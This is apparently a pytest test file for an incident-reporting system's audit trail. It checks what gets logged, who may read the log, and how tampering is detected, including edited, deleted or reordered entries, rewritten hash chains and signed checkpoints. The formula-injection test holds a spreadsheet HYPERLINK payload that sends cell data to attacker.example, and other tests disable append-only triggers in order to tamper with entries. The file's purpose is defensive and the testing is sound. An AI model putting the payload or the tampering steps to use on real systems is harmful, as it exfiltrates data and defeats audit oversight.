"""The audit trail: what is recorded, that it is all-or-nothing with the change, that tampering is found
and named, and who may read it."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, text

from interdict.accounts import service as accounts
from interdict.accounts.schemas import TokenCreate, UserCreate
from interdict.app import create_app
from interdict.audit import checkpoint
from interdict.audit import service as audit
from interdict.audit.models import AuditEntry
from interdict.config import Settings
from interdict.core import migrate
from interdict.core.db import make_engine, make_sessionmaker, unit_of_work
from tests.conftest import BACKENDS, PASSWORD, World, _create_pg_database, _drop_pg_database, minimal_incident
from tests.web.test_pages import login, post_login


def last_seq(world: World) -> int:
    with world.session() as s:
        return int(s.scalar(select(AuditEntry.seq).order_by(AuditEntry.seq.desc()).limit(1)) or 0)


def entries_since(world: World, seq: int) -> list[AuditEntry]:
    with world.session() as s:
        rows = list(s.scalars(select(AuditEntry).where(AuditEntry.seq > seq).order_by(AuditEntry.seq)))
        s.expunge_all()
        return rows


def test_changes_reads_of_person_data_and_exports_are_recorded(client: TestClient, world: World) -> None:
    mark = last_seq(world)
    h = world.h("officer.hp")
    person = {"role": "person_involved", "kind": "person", "name": "Lê Văn Tám"}
    inc = client.post("/api/v1/incidents", json=minimal_incident(parties=[person]), headers=h).json()
    inc = client.patch(f"/api/v1/incidents/{inc['id']}", json={"version": 1, "narrative": "changed"}, headers=h).json()
    inc = client.post(f"/api/v1/incidents/{inc['id']}/submit", json={"version": inc["version"]}, headers=h).json()
    client.post(
        f"/api/v1/incidents/{inc['id']}/sharing",
        json={"version": inc["version"], "distribution": "all", "tlp": "GREEN", "share_nominal": False},
        headers=h,
    )
    client.get(f"/api/v1/incidents/{inc['id']}", headers=h)  # the owner reads the person: audited
    client.get(f"/api/v1/incidents/{inc['id']}", headers=world.h("officer.kh"))  # persons withheld: no read
    client.get("/api/v1/incidents/export", params={"format": "csv", "type": "stopped_shipment"}, headers=h)
    got = entries_since(world, mark)
    assert [e.action for e in got] == [
        "incident.create",
        "incident.update",
        "incident.submit",
        "incident.share",
        "incident.read_nominal",
        "incident.export",
    ]
    assert all(e.actor_username == "officer.hp" and e.channel == "api" and e.ip for e in got)
    assert all(e.object_label == inc["reference"] for e in got[:5])
    assert got[1].before == {"narrative": minimal_incident()["narrative"]} and got[1].after == {"narrative": "changed"}
    assert got[3].before["distribution"] == "organisation" and got[3].after["distribution"] == "all"
    assert got[5].after["filter"] is not None and got[5].after["rows"] == 1
    with world.session() as s:
        assert audit.verify(s).intact


def test_logins_failed_logins_and_logout_are_recorded(client: TestClient, world: World) -> None:
    mark = last_seq(world)
    post_login(client, "officer.hp", "wrong password!")
    post_login(client, "nobody.here", "whatever it is")
    csrf = login(client, "officer.hp")
    client.post("/logout", data={"csrf_token": csrf})
    got = [(e.action, e.actor_username, e.channel) for e in entries_since(world, mark)]
    assert got == [
        ("auth.login_failed", "officer.hp", "web"),
        ("auth.login_failed", "nobody.here", "web"),
        ("auth.login", "officer.hp", "web"),
        ("auth.logout", "officer.hp", "web"),
    ]


def test_a_refused_or_rolled_back_change_leaves_no_entry(client: TestClient, world: World) -> None:
    mark = last_seq(world)
    bad = client.post("/api/v1/incidents", json=minimal_incident(country="XX"), headers=world.h("officer.hp"))
    assert bad.status_code == 422
    with contextlib.suppress(RuntimeError), unit_of_work(world.app.state.sessionmaker) as s:
        audit.record(s, world.subject("officer.hp"), "incident.create", summary="never committed")
        raise RuntimeError("boom")
    assert entries_since(world, mark) == []


def test_only_auditors_and_admins_read_the_trail_of_their_own_tree(client: TestClient, world: World) -> None:
    with world.session() as s:
        for username, org in (("auditor.vn", "VNC"), ("auditor.kh", "KHC")):
            if accounts.get_user_by_username(s, username) is None:
                user = accounts.create_user(
                    s,
                    UserCreate(username=username, full_name=username, role="auditor", org_code=org, password=PASSWORD),
                )
                token, _ = accounts.create_api_token(
                    s, user, TokenCreate(name="t", scopes=["read"]), pepper=world.app.state.pepper
                )
                world.tokens[username] = token
    client.post("/api/v1/incidents", json=minimal_incident(), headers=world.h("officer.hp"))
    vn = client.get("/api/v1/audit", params={"action": "incident.create"}, headers=world.h("auditor.vn"))
    assert vn.status_code == 200 and vn.json() and vn.json()[0]["actor_username"] == "officer.hp"
    kh = client.get("/api/v1/audit", params={"actor": "officer.hp"}, headers=world.h("auditor.kh")).json()
    assert kh == []
    for user in ("officer.hp", "viewer.hp", "analyst"):
        assert client.get("/api/v1/audit", headers=world.h(user)).status_code == 403
    assert client.get("/api/v1/audit", headers=world.h("admin")).status_code == 200
    login(client, "auditor.vn")
    page = client.get("/audit", params={"action": "incident.", "actor": "officer.hp"})
    assert page.status_code == 200 and "incident.create" in page.text
    exported = client.get("/audit/export.csv", params={"action": "incident.create"})
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows and {r["action"] for r in rows} == {"incident.create"} and all(len(r["hash"]) == 64 for r in rows)
    assert client.get("/audit", params={"date_from": "yesterday"}).status_code == 422
    client.cookies.clear()
    login(client, "officer.hp")
    assert client.get("/audit").status_code == 403


# --- tamper evidence, on a database of its own -------------------------------------------------------


@pytest.fixture(params=BACKENDS)
def own_db(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """A migrated database of its own (no reference data: the trail does not need it)."""
    pg = request.param == "postgresql"
    url = _create_pg_database() if pg else f"sqlite:///{(tmp_path / 'audit.db').as_posix()}"
    engine = make_engine(url)
    migrate.upgrade(engine)
    engine.dispose()
    try:
        yield url
    finally:
        if pg:
            _drop_pg_database(url)


def _write(url: str, n: int) -> None:
    engine = make_engine(url)
    factory = make_sessionmaker(engine)
    for i in range(n):
        with unit_of_work(factory) as s:
            audit.record(s, None, "test.event", actor_username="tester", summary=f"event {i + 1}", after={"i": i})
    engine.dispose()


def _tamper(url: str, *statements: str) -> None:
    engine = make_engine(url)
    with engine.begin() as conn:
        if engine.dialect.name == "postgresql":
            conn.execute(text("ALTER TABLE audit_entries DISABLE TRIGGER USER"))
        else:
            conn.execute(text("DROP TRIGGER audit_entries_no_update"))
            conn.execute(text("DROP TRIGGER audit_entries_no_delete"))
        for st in statements:
            conn.execute(text(st))
    engine.dispose()


def _verify(url: str) -> audit.VerifyReport:
    engine = make_engine(url)
    with unit_of_work(make_sessionmaker(engine)) as s:
        report = audit.verify(s)
    engine.dispose()
    return report


def test_verify_hashes_every_entry_as_it_was_written(client: TestClient, world: World) -> None:
    """verify recomputes each entry's hash by a faster route than the writer's; on real entries (people and
    the system as actors, changes with before/after, reads of person data, logins) both give the stored hash."""
    login(client, "officer.hp")
    r = client.post("/api/v1/incidents", json=minimal_incident(submit=True), headers=world.h("officer.hp"))
    inc = r.json()
    client.patch(
        f"/api/v1/incidents/{inc['id']}",
        json={"version": inc["version"], "narrative": "Người nhận: Công ty “Hoàng Phát” — changed"},
        headers=world.h("officer.hp"),
    )
    client.get(f"/api/v1/incidents/{inc['id']}", headers=world.h("officer.hcm"))
    with world.session() as s:
        audit.record(s, None, "test.system_event", summary="no actor")
        audit.record(s, None, "test.concerned", summary="shown to two more organisations", org_ids=[uuid.uuid4()] * 2)
    cols = [getattr(AuditEntry, k) for k in (*audit.HASHED_FIELDS, "hash")]
    with world.session() as s:
        rows = list(s.execute(select(*cols).order_by(AuditEntry.seq)).tuples())
    assert any(row[2] is None for row in rows) and any(row[2] is not None and row[4] is not None for row in rows)
    assert any(row[13] is not None for row in rows)  # a change with its before/after
    assert any(row[15] is not None for row in rows) and any(row[15] is None for row in rows)  # org_ids or not
    for row in rows:
        assert audit._stored_hash(row) == audit.entry_hash(dict(zip(audit.HASHED_FIELDS, row))) == row[-1], row[0]


def test_the_trail_refuses_updates_and_deletes(own_db: str) -> None:
    _write(own_db, 2)
    engine = make_engine(own_db)
    for st in ("UPDATE audit_entries SET summary = 'x' WHERE seq = 1", "DELETE FROM audit_entries WHERE seq = 2"):
        with pytest.raises(Exception, match="append-only"), engine.begin() as conn:
            conn.execute(text(st))
    engine.dispose()
    assert _verify(own_db).intact


def test_verify_names_edited_deleted_and_reordered_entries(own_db: str) -> None:
    _write(own_db, 8)
    assert _verify(own_db).intact and _verify(own_db).entries == 8
    _tamper(
        own_db,
        "UPDATE audit_entries SET summary = 'nothing happened' WHERE seq = 2",  # edited
        "DELETE FROM audit_entries WHERE seq = 4",  # deleted
        # entries 6 and 7 swapped (contents exchanged, hashes kept with their content)
        "UPDATE audit_entries SET seq = 100 WHERE seq = 6",
        "UPDATE audit_entries SET seq = 6 WHERE seq = 7",
        "UPDATE audit_entries SET seq = 7 WHERE seq = 100",
    )
    report = _verify(own_db)
    found = {(p.kind, p.seq) for p in report.problems}
    assert ("altered", 2) in found
    assert ("missing", 4) in found
    assert ("out_of_order", 6) in found and ("out_of_order", 7) in found
    assert not report.intact


def test_the_organisations_an_entry_concerns_are_hashed_and_older_entries_hash_as_before(own_db: str) -> None:
    """``org_ids`` (organisations whose auditors also read an entry) is part of the hash when set; an entry
    without it hashes exactly as entries did before the field existed."""
    concerned = str(uuid.uuid4())
    engine = make_engine(own_db)
    with unit_of_work(make_sessionmaker(engine)) as s:
        audit.record(s, None, "test.event", actor_username="tester", summary="plain")
        audit.record(s, None, "test.event", actor_username="tester", summary="concerns", org_ids=[uuid.UUID(concerned)])
    with engine.connect() as conn:
        first = conn.execute(select(AuditEntry).where(AuditEntry.seq == 1)).one()
    engine.dispose()
    old_format = {k: getattr(first, k) for k in audit.HASHED_FIELDS if k != "org_ids"}
    assert audit.entry_hash(old_format) == first.hash  # no org_ids key at all: the pre-0019 canonical form
    assert _verify(own_db).intact
    _tamper(
        own_db,
        "UPDATE audit_entries SET org_ids = NULL WHERE seq = 2",  # hidden from the concerned organisation
        f"UPDATE audit_entries SET org_ids = '[\"{concerned}\"]' WHERE seq = 1",  # shown to it
    )
    report = _verify(own_db)
    assert {(p.kind, p.seq) for p in report.problems} == {("altered", 1), ("altered", 2)}


def test_removing_the_newest_entries_is_found(own_db: str) -> None:
    _write(own_db, 3)
    _tamper(own_db, "DELETE FROM audit_entries WHERE seq = 3")
    report = _verify(own_db)
    assert [(p.kind, p.seq) for p in report.problems] == [("head", 2)]


def test_concurrent_writers_keep_one_chain(own_db: str) -> None:
    engine = make_engine(own_db)
    if engine.dialect.name != "postgresql":
        pytest.skip("SQLite has one writer at a time; concurrency is a PostgreSQL deployment concern")
    factory = make_sessionmaker(engine)
    errors: list[BaseException] = []

    def worker(k: int) -> None:
        try:
            for i in range(25):
                with unit_of_work(factory) as s:
                    audit.record(s, None, "test.concurrent", actor_username=f"w{k}", summary=str(i))
                    audit.record(s, None, "test.concurrent", actor_username=f"w{k}", summary=f"{i}b")
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=worker, args=(k,)) for k in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    engine.dispose()
    assert errors == []
    report = _verify(own_db)
    assert report.intact and report.entries == 6 * 25 * 2


def test_cli_verify_exit_codes(own_db: str, tmp_path: Path) -> None:
    _write(own_db, 3)
    env = {**os.environ, "INTERDICT_DATABASE_URL": own_db, "INTERDICT_DATA_DIR": str(tmp_path), "COLUMNS": "200"}
    ok = subprocess.run([sys.executable, "-m", "interdict", "audit", "verify"], env=env, capture_output=True, text=True)
    assert ok.returncode == 0 and "intact: 3 entries" in ok.stdout, ok.stderr
    _tamper(own_db, "UPDATE audit_entries SET actor_username = 'someone else' WHERE seq = 2")
    bad = subprocess.run(
        [sys.executable, "-m", "interdict", "audit", "verify"], env=env, capture_output=True, text=True
    )
    assert bad.returncode == 1 and "entry 2 was altered" in bad.stdout


# --- formula injection (issue 16) -----------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _formulas(csv_text: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(csv_text)) for c in row]
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(c)]


def test_a_failed_login_name_is_never_a_formula_in_the_auditors_exports_and_each_export_is_audited(
    client: TestClient, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Anyone can type a user name at the login page; it lands in the trail every auditor exports."""
    from typer.testing import CliRunner

    from interdict.cli import app

    with world.session() as s:
        if accounts.get_user_by_username(s, "auditor.vn") is None:
            accounts.create_user(
                s,
                UserCreate(
                    username="auditor.vn", full_name="Auditor", role="auditor", org_code="VNC", password=PASSWORD
                ),
            )
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Details")'
    client.post("/login", data={"username": evil, "password": "whatever it is"})
    mark = last_seq(world)
    login(client, "auditor.vn")
    web = client.get("/audit/export.csv", params={"action": "auth.login_failed"})
    assert web.status_code == 200
    text_ = web.content.decode("utf-8-sig")
    assert _formulas(text_) == []
    assert "'" + evil.lower() in [r["actor_username"] for r in csv.DictReader(io.StringIO(text_))]

    settings = world.app.state.settings
    monkeypatch.setenv("INTERDICT_DATABASE_URL", settings.effective_database_url)
    monkeypatch.setenv("INTERDICT_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("INTERDICT_SECRET_KEY", "test-secret-key")
    out = tmp_path / "trail.csv"
    r = CliRunner().invoke(app, ["audit", "export", "--user", "auditor.vn", "--output", str(out)])
    assert r.exit_code == 0, r.output
    text_ = out.read_text(encoding="utf-8")
    assert _formulas(text_) == []
    assert "'" + evil.lower() in [r["actor_username"] for r in csv.DictReader(io.StringIO(text_))]

    exports = [(e.channel, e.after) for e in entries_since(world, mark) if e.action == "audit.export"]
    assert [(channel, after["format"]) for channel, after in exports] == [("web", "csv"), ("cli", "csv")]
    assert all(after["rows"] >= 1 for _, after in exports)


# --- checkpoints: an anchor kept outside the system ------------------------------------------------------------


def _cli(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "interdict", "audit", *args], env=env, capture_output=True, text=True)


def test_a_checkpoint_finds_a_trail_cut_at_the_end_and_its_head_rewritten(own_db: str, tmp_path: Path) -> None:
    """The review's attack: delete the newest entries (bypassing the triggers) and set audit_head back to the
    last one left. The chain itself is then consistent, so plain verification passes; a checkpoint kept outside
    names the entry that is gone. An edited checkpoint file is refused as badly signed."""
    _write(own_db, 6)
    env = {**os.environ, "INTERDICT_DATABASE_URL": own_db, "INTERDICT_DATA_DIR": str(tmp_path), "COLUMNS": "200"}
    made = _cli(env, "checkpoint", "--out", str(tmp_path / "cp.json"))
    assert made.returncode == 0, made.stderr
    doc = json.loads((tmp_path / "cp.json").read_text())
    assert doc["seq"] == 6 and "public key (Ed25519): " + doc["public_key"] in " ".join(made.stderr.split())
    ok = _cli(env, "verify", "--checkpoint", str(tmp_path / "cp.json"))
    assert ok.returncode == 0 and "intact: 7 entries" in ok.stdout and "1 checkpoint(s) hold" in ok.stdout, ok.stdout
    # A checkpoint whose hash was edited (to match a rewritten trail) is refused before anything else.
    (tmp_path / "forged.json").write_text(json.dumps({**doc, "hash": "f" * 64}))
    forged = _cli(env, "verify", "--checkpoint", str(tmp_path / "forged.json"))
    assert forged.returncode == 2 and "signature does not match" in " ".join(forged.stderr.split())
    # A checkpoint signed by another server's key is refused too, unless that key is given.
    other = _cli({**env, "INTERDICT_SECRET_KEY": "another-server"}, "verify", "--checkpoint", str(tmp_path / "cp.json"))
    assert other.returncode == 2 and "another key" in " ".join(other.stderr.split())
    # The attack: entries 5, 6 and 7 deleted, the head set back to entry 4.
    _tamper(
        own_db,
        "DELETE FROM audit_entries WHERE seq >= 5",
        "UPDATE audit_head SET last_seq = 4, last_hash = (SELECT hash FROM audit_entries WHERE seq = 4)",
    )
    assert _verify(own_db).intact  # the chain alone cannot tell
    assert _cli(env, "verify").returncode == 0
    bad = _cli(env, "verify", "--checkpoint", str(tmp_path / "cp.json"))
    assert bad.returncode == 1, bad.stdout
    assert "entry 6, in the checkpoint of" in bad.stdout and "now ends at entry 4" in " ".join(bad.stdout.split())


def test_a_checkpoint_finds_a_rewritten_chain(own_db: str, tmp_path: Path) -> None:
    """An entry edited and the chain recomputed from it to the head: consistent again, but not the checkpoint's."""
    _write(own_db, 3)
    engine = make_engine(own_db)
    factory = make_sessionmaker(engine)
    with unit_of_work(factory) as s:
        doc = checkpoint.make(s, "test-secret", now=datetime.now(UTC))
    with unit_of_work(factory) as s:
        cols = [getattr(AuditEntry, k) for k in audit.HASHED_FIELDS]
        rows = [dict(r._mapping) for r in s.execute(select(*cols).order_by(AuditEntry.seq))]
    rows[1]["summary"] = "nothing happened"
    prev = rows[0]["prev_hash"]
    statements = []
    for row in rows:
        row["prev_hash"] = prev
        prev = audit.entry_hash(row)
        statements.append(
            f"UPDATE audit_entries SET summary = '{row['summary']}', prev_hash = '{row['prev_hash']}', "
            f"hash = '{prev}' WHERE seq = {row['seq']}"
        )
    _tamper(own_db, *statements, f"UPDATE audit_head SET last_hash = '{prev}'")
    assert _verify(own_db).intact
    path = tmp_path / "cp.json"
    path.write_text(checkpoint.dumps(doc))
    with unit_of_work(factory) as s:
        loaded = checkpoint.load(path, expected_key=checkpoint.public_key("test-secret"))
        finding = checkpoint.check(s, loaded)
    engine.dispose()
    assert finding is not None and finding.seq == 3 and "rewritten" in finding.message


def test_the_server_writes_checkpoints_into_the_configured_directory(own_db: str, tmp_path: Path) -> None:
    _write(own_db, 2)
    settings = Settings(
        database_url=own_db,
        data_dir=tmp_path / "data",
        secret_key="server-secret",
        linkage_worker=False,
        watch_worker=False,
        notices_worker=False,
        alerts_worker=False,
        delivery_worker=False,
        audit_checkpoint_dir=tmp_path / "checkpoints",
    )
    app = create_app(settings)
    with TestClient(app):
        deadline = time.monotonic() + 10
        while not list((tmp_path / "checkpoints").glob("*.json")) and time.monotonic() < deadline:
            time.sleep(0.05)
    app.state.engine.dispose()
    (path,) = (tmp_path / "checkpoints").glob("audit-checkpoint-*.json")
    doc = checkpoint.load(path, expected_key=checkpoint.public_key("server-secret"))
    assert doc["seq"] == 2
    report = _verify(own_db)
    assert report.intact and report.entries == 3  # the checkpoint is itself recorded in the trail
